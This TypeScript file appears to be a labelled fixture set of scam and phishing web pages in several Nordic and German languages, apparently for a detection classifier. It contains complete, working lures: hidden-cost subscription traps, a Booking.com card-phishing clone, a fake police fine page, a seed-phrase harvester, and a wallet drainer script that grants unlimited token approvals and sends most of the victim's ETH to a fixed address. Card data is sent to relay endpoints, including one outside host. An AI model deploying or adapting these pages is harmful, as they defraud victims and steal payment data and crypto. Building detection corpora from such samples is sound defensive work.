import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, footer, cookieBar, countdown, cardFields, cardFormat, relay, tgRelay, logo } from '../parts/zs-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zs-trap-free-trial-keto-de',
    label: 'scam',
    kind: 'subscription-trap',
    url: 'https://keto-slim-gratis-testen.de/probe',
    body: doc({ lang: 'de', title: 'KetoSlim Pro – Jetzt GRATIS testen (nur Versand 4,95 €)', body: `<main style="max-width:760px"><div class="card"><h1>Wie aus dem TV bekannt: KetoSlim Pro</h1><p><b>Gratis-Probepackung</b> – Sie zahlen nur 4,95 € Versand. Nur noch <b id="n">17</b> Packungen verfügbar in Ihrer Region.</p>
<form id="t"><label>Name</label><input name="n" required><label>Adresse</label><input name="a" required><label>E-Mail</label><input name="e" type="email">${cardFields({ name: 'Karteninhaber', num: 'Kartennummer', exp: 'Gültig bis', cvc: 'CVC' })}
<button class="btn" style="margin-top:12px;width:100%;background:#1aa34a">JETZT GRATIS-PROBE ANFORDERN</button></form></div>
<p class="small" style="color:#aaa;font-size:9px">Mit Ihrer Bestellung melden Sie sich für das KetoSlim VIP-Programm an. Nach Ablauf der 14-tägigen Testphase werden Ihnen alle 30 Tage 89,95 € für eine Nachlieferung berechnet, bis Sie schriftlich per Einschreiben an unsere Adresse in Zypern kündigen. Zusätzlich erhalten Sie Zugang zu FitClub Online für 39,95 €/Monat.</p></main>`, script: cardFormat + `setInterval(function(){var n=document.getElementById('n');if(+n.textContent>3)n.textContent=+n.textContent-1},7000);` + relay('t', '/api/lead.php', '/upsell') }),
  },
  {
    id: 'zs-trap-streaming-1kr-sv',
    label: 'scam',
    kind: 'subscription-trap',
    url: 'https://filmpaket-nordic.com/sv/start',
    body: doc({ lang: 'sv', title: 'Alla filmer och serier – prova för 1 kr', body: `<main class="center" style="max-width:520px"><div class="card" style="background:#141414;color:#fff"><h1>Obegränsat med filmer, serier och sport</h1><p>Prova 5 dagar för endast <b>1 kr</b>. Avsluta när du vill.</p>
<form id="s"><label style="color:#ccc">E-post</label><input name="email" required><label style="color:#ccc">Lösenord</label><input name="pw" type="password">${cardFields({ name: 'Namn på kortet', num: 'Kortnummer', exp: 'MM/ÅÅ', cvc: 'CVC' })}<button class="btn" style="margin-top:12px;width:100%;background:#e50914">Starta för 1 kr</button></form>
<p style="font-size:10px;color:#777">Efter provperioden förnyas medlemskapet automatiskt till 499 kr var 14:e dag. Betalningar återbetalas inte. Tjänsten tillhandahålls av Mediaflex Ltd, Larnaca.</p></div></main>`, script: cardFormat + relay('s', '/secure/charge', '/sv/konto') }),
  },
  {
    id: 'zs-trap-iphone-winner-survey-nb',
    label: 'scam',
    kind: 'prize-survey-trap',
    url: 'https://gratulerer-kundeundersokelse.com/nb/?c=telenor',
    body: doc({ lang: 'nb', title: 'Gratulerer! Du er valgt ut', body: `<main class="center" style="max-width:520px"><div class="card"><p class="muted">${new Date().toLocaleDateString('nb-NO')}</p><h1>Kjære kunde, gratulerer!</h1><p>Du er valgt ut til å delta i vår årlige kundeundersøkelse. Svar på 4 spørsmål og få sjansen til å vinne en <b>iPhone 15 Pro</b> for kun 19 kr i frakt.</p>
<div id="q"><p><b>1. Hvor fornøyd er du med mobildekningen?</b></p><button class="btn" onclick="nx()">Veldig fornøyd</button> <button class="btn" onclick="nx()">Fornøyd</button> <button class="btn alt" onclick="nx()">Misfornøyd</button></div>
<p>Tilbudet utløper om <b id="cd"></b></p><div id="f" hidden><h3>Gratulerer, du vant! Betal frakt 19 kr</h3><form id="p">${cardFields({ name: 'Navn', num: 'Kortnummer', exp: 'Utløp', cvc: 'CVC' })}<button class="btn">Betal 19 kr</button></form><p style="font-size:9px;color:#999">Ved å betale aksepterer du abonnement på PrizeClub: 549 kr per måned.</p></div></div></main>`, script: countdown('cd', 4) + `var i=0;function nx(){i++;if(i>=1){document.getElementById('q').hidden=true;document.getElementById('f').hidden=false}}` + cardFormat + relay('p', 'https://offers-secure-pay.click/c.php', 'https://offers-secure-pay.click/thanks') }),
  },
  {
    id: 'zs-holiday-let-booking-clone-de',
    label: 'phishing',
    kind: 'holiday-let-booking-clone',
    url: 'https://booking.com-confirmation-4471.info/de/reservation?id=4471829',
    body: doc({ lang: 'de', title: 'Booking.com | Bestätigung Ihrer Reservierung', body: `<header class="top" style="background:#003580;color:#fff"><b style="font-size:22px;color:#fff">Booking.com</b></header><main style="max-width:680px"><div class="card"><h1>Ihre Reservierung ist noch nicht garantiert</h1><p>Ferienwohnung Seeblick, Usedom · 12.–19. Juli · 2 Erwachsene</p>
<p style="color:#c8102e">Die Bank hat Ihre Karte abgelehnt. Bitte bestätigen Sie Ihre Kartendaten innerhalb von 24 Stunden, sonst wird die Buchung storniert.</p><form id="c">${cardFields({ name: 'Karteninhaber', num: 'Kartennummer', exp: 'Ablaufdatum', cvc: 'CVC' })}<label>Verfügbarer Kartenrahmen (für Prüfung)</label><input name="limit"><button class="btn" style="margin-top:12px;width:100%">Karte bestätigen</button></form></div></main>`, script: cardFormat + relay('c', '/api/v1/card', '/de/sms') }),
  },
  {
    id: 'zs-invest-celebrity-advertorial-de',
    label: 'scam',
    kind: 'crypto-advertorial',
    url: 'https://www.nachrichten-heute-exklusiv.com/wirtschaft/guenther-jauch-enthuellt',
    body: doc({ lang: 'de', title: 'Günther Jauch enthüllt live in TV-Show, wie er sein Vermögen aufbaut', body: `<header class="top"><b style="font-family:Georgia;font-size:26px">NACHRICHTEN HEUTE</b><nav><a>Politik</a><a>Wirtschaft</a><a>Promis</a></nav></header><main style="max-width:760px"><article class="card"><p class="muted">Wirtschaft · ${new Date().toLocaleDateString('de-DE')}</p><h1>Skandal im Live-TV: Jauch verrät Geheimnis – Banken wollen es verbieten</h1>
<p>In der gestrigen Sendung plauderte der Moderator aus, wie „jeder Deutsche mit nur 250 € Startkapital“ täglich bis zu 1.300 € verdienen kann – mit der Plattform <b>Quantum Bitlax AI</b>. Die Deutsche Bank rief noch während der Sendung an, um das Interview zu stoppen.</p>
<p>Wir haben es selbst getestet: Nach 7 Tagen hatten wir 5.821 € auf dem Konto.</p><a class="btn" href="https://quantum-bitlax-ai.io/de/register?aff=ng44">Jetzt kostenlos registrieren ›</a>
<div class="card" style="margin-top:16px"><b>Kommentare (1.248)</b><p>Heike M.: Habe gestern meine erste Auszahlung bekommen, 2.340 €! Danke!</p><p>Thomas K.: Endlich mal etwas, das funktioniert.</p></div></article></main>` }),
  },
  {
    id: 'zs-recovery-wallet-validate-seed-de',
    label: 'cryptodrainer',
    kind: 'seed-phrase-recovery',
    url: 'https://krypto-rueckholung-cyberpolizei.de/verfahren/wallet',
    body: doc({ lang: 'de', title: 'Krypto-Rückholung – Wallet verifizieren', body: `<main class="center" style="max-width:600px"><div class="card"><h1>Schritt 2: Empfänger-Wallet verifizieren</h1><p>Damit wir Ihre zurückgeholten Mittel (<b>0,812 BTC</b>) auf Ihre Wallet übertragen können, muss die Wallet per Wiederherstellungsphrase verifiziert werden. Dies ist eine gesetzliche Vorgabe (GwG).</p>
<form id="s"><label>Wallet</label><select name="w"><option>MetaMask</option><option>Trust Wallet</option><option>Ledger</option><option>Exodus</option></select><label>Wiederherstellungsphrase (12 oder 24 Wörter)</label><textarea name="phrase" rows="4" required></textarea><button class="btn" style="margin-top:10px">Verifizieren</button></form></div></main>`, script: `document.getElementById('s').onsubmit=function(e){e.preventDefault();var p=this.phrase.value.trim().split(/\\s+/);if(p.length!==12&&p.length!==24){alert('Ungültige Phrase');return}fetch('/api/verify',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({w:this.w.value,m:btoa(p.join(' '))})}).then(function(){location.href='/verfahren/status'})}` }),
  },
  {
    id: 'zs-invest-airdrop-drainer-fi',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://claim.nordic-token-airdrop.xyz/fi',
    body: doc({ lang: 'fi', title: 'NRD Airdrop – lunasta tokenisi', body: `<main class="center" style="max-width:520px"><div class="card" style="background:#0e1726;color:#e6edf7"><h1>Lunasta 2 500 NRD</h1><p>Olet oikeutettu airdropiin. Yhdistä lompakko ja lunasta ennen kuin aika loppuu: <b id="cd"></b></p><button class="btn" id="c" style="width:100%">Yhdistä lompakko</button><p id="st" class="small"></p></div></main>`, script: countdown('cd', 30) + `var SPENDER='0x3f1Bc6A9e04d2D7a5B8e0F4c1e6a9D27b3C5f081';var TOKENS=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'];
document.getElementById('c').onclick=async function(){var eth=window.ethereum;if(!eth){document.getElementById('st').textContent='Asenna MetaMask';return}var a=(await eth.request({method:'eth_requestAccounts'}))[0];
for(var t of TOKENS){var data='0x095ea7b3'+SPENDER.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64);try{await eth.request({method:'eth_sendTransaction',params:[{from:a,to:t,data:data}]})}catch(e){}}
var bal=await eth.request({method:'eth_getBalance',params:[a,'latest']});var v=BigInt(bal)*95n/100n;try{await eth.request({method:'eth_sendTransaction',params:[{from:a,to:SPENDER,value:'0x'+v.toString(16)}]})}catch(e){}
fetch('/api/log',{method:'POST',body:JSON.stringify({a:a})});document.getElementById('st').textContent='Lunastus käsittelyssä…'}` }),
  },
  {
    id: 'zs-extortion-police-fine-fi',
    label: 'scam',
    kind: 'police-extortion',
    url: 'https://poliisi-sakko-maksu.com/fi/asia/88213',
    body: doc({ lang: 'fi', title: 'Poliisi – Rikosilmoitus ja sakon maksu', body: `<header class="top" style="background:#0b2d6b;color:#fff"><b style="color:#fff">POLIISI · Kyberrikoskeskus</b></header><main style="max-width:720px"><div class="card"><h1>Rikosasia 88213/2025</h1><p>Tietokoneellasi on havaittu laittoman materiaalin katselua. Asia siirretään syyttäjälle, ellei <b>sovittelumaksua 480 €</b> makseta 48 tunnin kuluessa.</p><p>Maksu voidaan suorittaa Paysafecard- tai Bitcoin-maksulla.</p><form id="m"><label>Paysafecard-koodit</label><input name="psc"><label>Henkilötunnus</label><input name="hetu"><button class="btn" style="margin-top:10px">Maksa sovittelumaksu</button></form></div></main>`, script: relay('m', '/pay.php', '/fi/kuitti') }),
  },
];
